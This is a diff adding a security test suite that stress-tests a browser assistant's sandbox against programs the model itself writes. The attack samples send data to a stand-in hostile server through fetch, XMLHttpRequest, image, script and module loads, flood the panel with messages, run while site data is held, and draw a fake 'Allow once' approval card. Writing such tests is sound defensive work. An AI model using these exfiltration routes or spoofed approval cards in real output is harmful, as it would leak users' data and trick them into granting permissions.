@@ -1,0 +1,84 @@
+/** What a program tries that a model wrote, in Chromium's sandboxed page. */
+import { personSays } from '../../support/journey';
+import { aMoment, type BrowserAttack, type BrowserWorld, calls, expect } from './world';
+
+/** Ways out of the sandbox's policy: each gives "reached", or fails. */
+const ways: Record<string, string> = {
+  'fetches an address': 'await fetch(url)',
+  'asks with XMLHttpRequest': "const x = new XMLHttpRequest(); x.open('GET', url, false); x.send()",
+  'loads a picture': 'await loads(Object.assign(new Image(), { src: url }))',
+  'loads a script': "const s = document.createElement('script'); s.src = url; root.append(s); await loads(s)",
+  'loads a module': "await import(url + '.js')",
+};
+
+const tries = (url: string, code: string) => `
+  const url = ${JSON.stringify(url)};
+  const loads = (element) => new Promise((resolve, reject) => { element.onload = resolve; element.onerror = reject; });
+  try { ${code}; } catch {}
+  root.textContent = 'tried';`;
+
+let shown = 0;
+
+/** The model shows a program. */
+async function runs({ model, panel }: BrowserWorld, program: object): Promise<string> {
+  const title = `Attack ${++shown}`;
+  model.plays(calls('widget_display', { name: 'js-sandbox', params: { title, ...program } }), {
+    text: `${title} is shown.`,
+  });
+  await personSays(panel, 'show it');
+  await panel.sees(`${title} is shown.`);
+  return title;
+}
+
+const frames = (panel: BrowserWorld['panel'], title: string) =>
+  panel.value<number>(`document.querySelectorAll('iframe[title="${title}"]').length`);
+
+export const byProgram: BrowserAttack[] = [
+  ...Object.entries(ways).map(
+    ([name, code]): BrowserAttack => ({
+      ...{ attacker: 'widget', only: 'chromium', name: `a program ${name}`, guard: 'a program has no network' },
+      breach: 'a request leaves the sandbox, with whatever the program holds',
+      async attempt(world) {
+        const path = `/out-${crypto.randomUUID()}`;
+        await runs(world, { code: tries(new URL(path, world.hostile.url).href, code) });
+        await aMoment(700);
+        expect(world.hostile.asked.filter((each) => each.startsWith(path))).toEqual([]);
+      },
+    }),
+  ),
+  {
+    ...{ attacker: 'widget', only: 'chromium', name: 'a program floods the panel with messages' },
+    breach: 'the panel works on thousands of messages a second',
+    guard: 'a program floods in vain',
+    async attempt(world) {
+      const title = await runs(world, {
+        code: 'for (;;) { for (let i = 0; i < 500; i++) send(i); await new Promise((r) => setTimeout(r, 50)); }',
+      });
+      await aMoment(1500);
+      expect(await frames(world.panel, title)).toBe(0);
+    },
+  },
+  {
+    ...{ attacker: 'widget', only: 'chromium', name: 'a program starts while the chat holds a site’s data' },
+    breach: 'a program runs unasked that could tell data in names of hosts',
+    guard: 'a program waits while data is held',
+    async attempt(world) {
+      const { model, panel } = world;
+      model.plays(calls('look'), { text: 'Looked.' });
+      await personSays(panel, 'look');
+      await panel.sees('Looked.');
+      const title = await runs(world, { code: "root.textContent = 'it runs'" });
+      await aMoment();
+      expect(await frames(panel, title)).toBe(0);
+    },
+  },
+  {
+    ...{ attacker: 'widget', only: 'chromium', name: 'a program draws an approval card' },
+    breach: 'nothing says that the card isn’t Tabhand’s',
+    guard: 'a program is framed',
+    async attempt(world) {
+      await runs(world, { code: '', html: '<h2>shop wants to run pay</h2><button>Allow once</button>' });
+      expect(await world.panel.text()).toContain('Drawn by a program of the model');
+    },
+  },
+];
